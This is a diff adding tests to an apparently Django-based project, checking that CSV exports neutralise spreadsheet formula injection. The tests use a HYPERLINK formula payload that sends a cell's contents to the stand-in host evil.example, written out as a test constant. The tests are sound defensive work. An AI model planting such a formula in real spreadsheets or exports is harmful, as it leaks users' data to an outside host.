@@ -207,3 +207,34 @@ def test_a_control_character_in_a_form_field_changes_nothing(world):
         {"posting_as": posting_as, "title": "Hello", "body": "Line one\r\n\tLine two"},
     )
     assert response.status_code == 302
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Durham")'
+
+
+def test_csv_cells_that_would_start_a_formula_are_written_as_text():
+    import io
+
+    from common import spreadsheet
+
+    out = io.StringIO()
+    spreadsheet.Writer(out).writerow([FORMULA, "+1", "-x", "@SUM(A1)", "\tx", "Durham", -5, "3"])
+    assert out.getvalue().startswith("\"'=HYPERLINK(")
+    assert ",'+1,'-x,'@SUM(A1),'\tx,Durham,-5,3" in out.getvalue()
+
+
+@pytest.mark.django_db
+def test_the_api_csv_neutralises_a_county_named_like_a_formula(world):
+    from tests.test_dashboards import agg
+
+    world.org_a.county = FORMULA
+    world.org_a.save()
+    agg(world.count, "2022", 120, scope="county", scope_key=FORMULA)
+    response = world.client(world.backbone).get(
+        reverse("api_indicator_values", args=[world.count.code]),
+        {"scope": "county", "key": FORMULA, "format": "csv"},
+    )
+    assert response.status_code == 200
+    text = response.content.decode()
+    assert "'=HYPERLINK(" in text
+    assert ",=HYPERLINK(" not in text and not text.startswith("=")
